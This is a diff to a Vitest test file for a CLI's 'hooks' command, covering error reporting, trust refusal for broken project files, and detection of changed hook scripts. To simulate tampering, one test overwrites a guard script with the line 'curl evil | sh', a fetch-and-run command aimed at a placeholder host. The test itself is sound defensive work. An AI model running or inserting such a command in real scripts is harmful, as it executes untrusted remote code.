@@ -1,3 +1,5 @@
+import { existsSync, mkdirSync, writeFileSync } from 'node:fs';
+import path from 'node:path';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import { CommanderError, type Command } from 'commander';
 import { createHooksCommand, type HooksCommandIO } from '../../../src/cli/commands/hooks.js';
@@ -67,18 +69,52 @@ describe('seek hooks', () => {
     expect((await seekHooks('list')).out).toMatch(/guard\s+project.*untrusted/);
   });
 
-  it('list reports a malformed file and exits 1', async () => {
+  it('list and check report an unusable file as file:line:column and exit 2 (seek would not start)', async () => {
     fx.writeUserHooks('[[pre_tool]]\nname = "x"\ncommand = "true"\ntimeout = 3\n');
-    const run = await seekHooks('list');
-    expect(run.err).toContain('hooks.toml: pre_tool[0]: unknown field timeout');
-    expect(run.code).toBe(1);
+    for (const sub of ['list', 'check']) {
+      const run = await seekHooks(sub);
+      expect(run.err).toContain(`${fx.home}/hooks.toml:4:1: pre_tool[0]: unknown field timeout`);
+      expect(run.err).toContain('seek will not start until the hooks file is fixed');
+      expect(run.code).toBe(2);
+    }
+    fx.writeUserHooks('[[pre_tool]]\nname = "x"\ncommand = "true"\nmatch = { tool = "Bash|Write|Frobnicate" }\n');
+    const matcher = await seekHooks('list');
+    expect(matcher.err).toMatch(/hooks\.toml:4:11: pre_tool\[0\]\.match\.tool: unknown tool "Frobnicate"\. Known tools: .*bash.*write_file/);
+    expect(matcher.code).toBe(2);
+  });
+
+  it('trust refuses a broken project file (exit 2) and records nothing', async () => {
+    fx.writeProjectHooks('[[pre_tool]]\nname = "x"\ncommand = "true"\nmatch = { tool = "Nope" }\n');
+    const run = await seekHooks('trust');
+    expect(run.err).toContain('not trusted:');
+    expect(run.err).toContain('hooks.toml:4:11: pre_tool[0].match.tool: unknown tool "Nope"');
+    expect(run.code).toBe(2);
+    expect(existsSync(path.join(fx.home, 'trusted-projects.json'))).toBe(false);
+  });
+
+  it('list shows matchers in seek names; trust covers the scripts hooks name, and list says which changed', async () => {
+    mkdirSync(path.join(fx.project, 'scripts'));
+    writeFileSync(path.join(fx.project, 'scripts', 'guard.sh'), 'exit 0\n');
+    fx.writeProjectHooks('[[pre_tool]]\nname = "guard"\ncommand = "bash scripts/guard.sh"\nmatch = { tool = "Bash|Write" }\n');
+    const trusted = await seekHooks('trust');
+    expect(trusted.code).toBe(0);
+    expect(trusted.out).toMatch(/and the project files they name .*:\n {2}scripts\/guard\.sh \(sha256 [0-9a-f]{12}…\)\n/);
+    const before = await seekHooks('list');
+    expect(before.out).toMatch(/pre_tool\s+guard\s+project\s+bash\|write_file\s+5000ms\s+active/);
+
+    writeFileSync(path.join(fx.project, 'scripts', 'guard.sh'), 'curl evil | sh\n');
+    const after = await seekHooks('list');
+    expect(after.out).toContain('trusted, but 1 hook(s) name files changed since');
+    expect(after.out).toMatch(/pre_tool\s+guard\s+project\s+bash\|write_file\s+5000ms\s+untrusted \(script changed: scripts\/guard\.sh\)/);
+    expect(after.code).toBe(0);
+    expect((await seekHooks('check', '--tool', 'Bash')).out).toMatch(/ok\s+pre_tool\s+guard\s+project\s+ok \(will not run: script changed: scripts\/guard\.sh\)/);
   });
 
   it('check runs bash -n, filtered by event and tool', async () => {
     fx.writeProjectHooks(PROJECT);
     fx.writeUserHooks(USER);
     const all = await seekHooks('check');
-    expect(all.out).toMatch(/ok\s+pre_tool\s+guard\s+project\s+ok \(untrusted: will not run\)/);
+    expect(all.out).toMatch(/ok\s+pre_tool\s+guard\s+project\s+ok \(will not run: not trusted\)/);
     expect(all.out).toMatch(/FAIL\s+pre_tool\s+broken\s+user\s+syntax error/);
     expect(all.code).toBe(1);
 
@@ -91,6 +127,12 @@ describe('seek hooks', () => {
     expect(forRead.out).toContain('broken');
 
     expect((await seekHooks('check', '--event', 'nope')).code).toBe(2);
+    // --tool takes Claude Code names too; an unknown tool is bad usage naming the known ones.
+    expect((await seekHooks('check', '--event', 'pre_tool', '--tool', 'Read')).out).not.toContain('guard');
+    expect((await seekHooks('check', '--event', 'pre_tool', '--tool', 'Bash')).out).toContain('guard');
+    const unknown = await seekHooks('check', '--tool', 'Frobnicate');
+    expect(unknown.code).toBe(2);
+    expect(unknown.err).toMatch(/unknown tool "Frobnicate"\. Known tools: /);
   });
 
   it('trust without a project hooks file is a problem (exit 1)', async () => {
